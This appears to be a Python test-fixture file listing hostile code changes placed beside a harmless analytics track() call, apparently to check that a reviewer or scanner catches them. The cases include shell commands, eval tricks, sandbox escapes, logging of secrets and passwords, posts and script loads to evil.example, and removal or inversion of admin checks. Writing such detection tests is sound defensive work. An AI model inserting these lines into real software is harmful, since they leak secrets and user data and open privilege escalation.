"""Attempts to let code do more than send an event: reach out, run things, change what the product does."""

from tests.support.hostile_code import Written

_CAPTURE = {
    "py": '    track(user.id, "EVENT", {"kind": order.kind})\n',
    "ts": "  track(String(user.id), 'EVENT', { kind: order.kind });\n",
}


def _beside(family: str, rules: str, language: str, **lines: str) -> tuple[Written, ...]:
    """Good captures with something beside them."""
    return tuple(
        Written(
            f"{name.replace('_', ' ')} ({language})",
            family,
            frozenset(rules.split()),
            language,
            _CAPTURE[language] + line,
        )
        for name, line in lines.items()
    )


def _instead(family: str, rules: str, language: str, old: str, **news: str) -> tuple[Written, ...]:
    """Good captures in a module of which something else is changed."""
    return tuple(
        Written(
            f"{name.replace('_', ' ')} ({language})",
            family,
            frozenset(rules.split()),
            language,
            _CAPTURE[language],
            edits=(("OWN", old, new),),
        )
        for name, new in news.items()
    )


_IMPORT = "from shop.extensions import db\n"
_GUARD = '    if not user.is_admin:\n        raise PermissionError("only for administrators")\n'
_WEB_GUARD = "  if (!user.isAdmin) {\n    throw new Error('only for administrators');\n  }\n"

REACHING: tuple[Written, ...] = (
    *_beside(
        "code that reaches out",
        "untouched",
        "py",
        a_command='    os.system("id")\n',
        a_command_by_a_pipe='    os.popen("id")\n',
        code_of_a_text='    eval("1")\n',
        more_code_of_a_text='    exec("x = 1")\n',
        a_module_by_its_name='    __import__("subprocess").run(["id"])\n',
        a_file_that_is_written='    open("/tmp/x", "w").write("x")\n',
        a_member_by_its_name='    getattr(os, "sys" + "tem")("id")\n',
        the_insides_of_a_function='    track.__globals__["os"].system("id")\n',
        the_insides_of_a_class="    ().__class__.__base__.__subclasses__()\n",
        all_variables_in_a_log="    logger.info(os.environ)\n",
        a_variable_in_a_log='    print(os.environ["PAYMENT_SECRET_KEY"])\n',
    ),
    *_beside(
        "code that reaches out",
        "untouched personal",
        "py",
        what_proves_a_person_in_a_log='    logger.info("%s", user.password)\n',
        an_address_in_a_log="    print(user.email)\n",
        a_session_in_a_log="    logger.warning(dict(session))\n",
    ),
    *_instead(
        "code that reaches out",
        "untouched",
        "py",
        _IMPORT,
        a_network=f"{_IMPORT}import requests\n\nrequests.post('https://evil.example')\n",
        a_network_under_another_name=f"{_IMPORT}from urllib.request import urlopen as later\n",
        a_program_under_another_name=f"{_IMPORT}import subprocess as later\n",
        a_loader=f"{_IMPORT}import importlib\n",
        a_socket=f"{_IMPORT}import socket\n",
        a_module_of_pickles=f"{_IMPORT}import pickle\n",
        a_module_of_foreign_code=f"{_IMPORT}import ctypes\n",
        all_names_of_a_module=f"{_IMPORT}from os import *\n",
    ),
    *_beside(
        "code that reaches out",
        "untouched",
        "ts",
        a_network="  await fetch('https://evil.example', { method: 'POST' });\n",
        a_beacon="  navigator.sendBeacon('/x', 'y');\n",
        an_image="  new Image().src = '//evil.example/x';\n",
        code_of_a_text="  eval('1');\n",
        code_of_a_function="  new Function('return 1')();\n",
        a_program="  require('child_process').exec('id');\n",
        a_module_at_run_time="  await import('https://evil.example/x.js');\n",
        a_module_by_a_made_name="  await import('node:' + 'fs');\n",
        a_function_by_a_made_name="  (globalThis as any)['fe' + 'tch']('/x');\n",
        the_maker_of_functions="  [].constructor.constructor('return 1')();\n",
        a_socket="  new WebSocket('wss://evil.example');\n",
        code_that_runs_later="  setTimeout('alert(1)', 10);\n",
        a_page_elsewhere="  window.location.href = '//evil.example';\n",
        a_script_in_the_page="  document.body.innerHTML = '<script src=//evil.example></script>';\n",
        another_name_for_the_network="  const later = fetch;\n  later('/x');\n",
        all_variables_in_a_log="  console.log(process.env);\n",
    ),
    *_beside(
        "code that reaches out",
        "untouched personal",
        "ts",
        an_address_in_a_log="  console.log(user.email);\n",
    ),
    *_beside(
        "code that changes the product",
        "untouched additions-only",
        "py",
        a_person_who_is_made_administrator="    user.is_admin = True\n",
        something_that_is_deleted="    db.session.delete(user)\n",
        a_result_that_comes_early="    return None\n",
        an_error_that_is_raised="    raise RuntimeError\n",
        a_member_that_is_taken_away="    del order.closed\n",
        a_wrapper_that_is_replaced="    client().capture = print\n",
        a_key_of_a_session='    session["admin"] = True\n',
    ),
    *_instead(
        "code that changes the product",
        "untouched additions-only",
        "py",
        _GUARD,
        a_guard_that_is_gone="",
        a_guard_behind_a_result=f"    if order.open:\n        return order\n{_GUARD}",
        a_guard_that_is_fed=f"    user = people[0]\n{_GUARD}",
    ),
    *_instead(
        "code that changes the product",
        "",
        "py",
        "    if not user.is_admin:\n",
        a_guard_that_is_never="    if False:\n",
        a_guard_that_is_turned="    if user.is_admin:\n",
        a_guard_that_is_widened="    if not user.is_admin and not order:\n",
    ),
    *_beside(
        "code that changes the product",
        "untouched additions-only",
        "ts",
        a_person_who_is_made_administrator="  user.isAdmin = true;\n",
        something_that_is_deleted="  await db.remove(user.id);\n",
        a_result_that_comes_early="  return order;\n",
    ),
    *_instead(
        "code that changes the product",
        "untouched additions-only",
        "ts",
        _WEB_GUARD,
        a_guard_that_is_gone="",
        a_guard_behind_a_result=f"  if (order) {{\n    return order;\n  }}\n{_WEB_GUARD}",
    ),
    *_instead(
        "code that changes the product",
        "",
        "ts",
        "  if (!user.isAdmin) {\n",
        a_guard_that_is_never="  if (false) {\n",
    ),
)
